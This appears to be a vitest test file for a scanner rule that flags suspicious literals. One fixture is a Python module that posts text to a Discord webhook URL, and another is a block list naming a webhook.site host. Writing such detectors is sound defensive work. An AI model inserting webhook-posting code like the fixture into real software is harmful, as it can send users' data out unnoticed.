import { expect, it } from 'vitest'
import { findInCode } from '../code-rule.test-support.ts'
import { rule } from './telling-literal.ts'

const find = (files: Readonly<Record<string, string>>): Promise<unknown> => findInCode(rule, files)

it('warns of a chat webhook', async () => {
  expect(
    await find({
      'demo/__init__.py':
        "import requests\nHOOK = 'https://discord.com/api/webhooks/1/x'\n\ndef report(text):\n    requests.post(HOOK, json={'content': text})\n",
    }),
  ).toEqual([['warn', 'demo/__init__.py', 2, false]])
})

it('leaves a list of hosts that nothing calls', async () => {
  expect(
    await find({
      'demo/__init__.py': "BLOCKED = ['https://abc.webhook.site']\n",
    }),
  ).toEqual([])
})
